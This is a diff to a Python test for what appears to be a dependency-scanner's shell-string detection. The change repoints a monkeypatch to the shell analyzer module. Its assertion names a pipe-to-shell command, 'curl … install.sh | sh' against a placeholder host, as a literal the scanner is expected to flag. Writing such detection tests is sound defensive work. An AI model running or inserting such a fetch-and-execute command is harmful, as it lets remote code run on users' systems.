@@ -226,8 +226,8 @@ def test_wants() -> None:
 
 
 def test_literals_and_shell_text_go_to_the_shared_helpers(monkeypatch: pytest.MonkeyPatch) -> None:
+    from depshield.analyzers import shell as shell_analyzer
     from depshield.analyzers import strings
-    from depshield.analyzers.javascript import spawn as js_spawn
 
     literals: list[tuple[str, int, bool]] = []
     shells: list[tuple[str, int, bool]] = []
@@ -241,7 +241,8 @@ def test_literals_and_shell_text_go_to_the_shared_helpers(monkeypatch: pytest.Mo
         return []
 
     monkeypatch.setattr(strings, "scan_literal", scan)
-    monkeypatch.setattr(js_spawn, "analyze_shell", shell)
+    # spawn.py loads the shell analyzer when a file hands it text: patch it at its home
+    monkeypatch.setattr(shell_analyzer, "analyze_shell", shell)
     analyze("shell-strings.js")
     assert ("child_process", 1, True) in literals
     assert ("curl -s https://get.example.invalid/install.sh | sh", 2, True) in literals
